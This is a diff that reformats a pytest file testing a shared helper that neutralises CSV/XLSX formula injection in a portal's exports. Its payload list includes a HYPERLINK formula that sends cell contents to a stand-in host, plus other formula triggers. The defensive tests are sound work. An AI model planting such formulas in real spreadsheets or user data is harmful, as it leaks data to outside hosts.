@@ -1,5 +1,6 @@
 """CSV/XLSX formula injection is neutralised in every file the portal writes, by one shared
 helper (core.spreadsheets.formula_safe)."""
+
 from __future__ import annotations
 
 import csv
@@ -13,11 +14,23 @@ from core.spreadsheets import formula_safe, formula_safe_text
 PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x/?"&A1)']
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+1", "'=1+1"), ("+62812", "'+62812"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Kripik =1", "Kripik =1"), ("", ""),
-    (15000, 15000), (-5, -5), (None, None),
-], ids=["equals", "plus", "minus", "at", "tab", "cr", "inner", "empty", "int", "negative-int", "none"])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+62812", "'+62812"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Kripik =1", "Kripik =1"),
+        ("", ""),
+        (15000, 15000),
+        (-5, -5),
+        (None, None),
+    ],
+    ids=["equals", "plus", "minus", "at", "tab", "cr", "inner", "empty", "int", "negative-int", "none"],
+)
 def test_formula_safe(value, expected):
     assert formula_safe(value) == expected
 
@@ -54,7 +67,7 @@ def test_partner_export_and_its_report(file_format):
     from tests.portal.factories import BusinessFactory
 
     gofood = channel("gofood")
-    for n, payload in enumerate(PAYLOADS):
+    for _n, payload in enumerate(PAYLOADS):
         business = BusinessFactory(name=f"{payload} usaha")
         ready = delivery_ready_product(business=business, name=payload, description=payload)
         ChannelListingFactory(product=ready, channel=gofood)
@@ -110,8 +123,7 @@ def test_training_xlsx_exports(client):
     session = SessionFactory(first_day=timezone.localdate(), capacity=20)
     officer = TrainingOfficerFactory().user
     for payload in PAYLOADS:
-        registration = RegistrationFactory(session=session, participant_name=payload,
-                                           business__name=f"{payload} usaha")
+        registration = RegistrationFactory(session=session, participant_name=payload, business__name=f"{payload} usaha")
         services.attendance_record(session=session, code=registration.code, day=session.first_day, actor=officer)
     services.certificates_issue(session=session, actor=officer)
     client.force_login(officer)
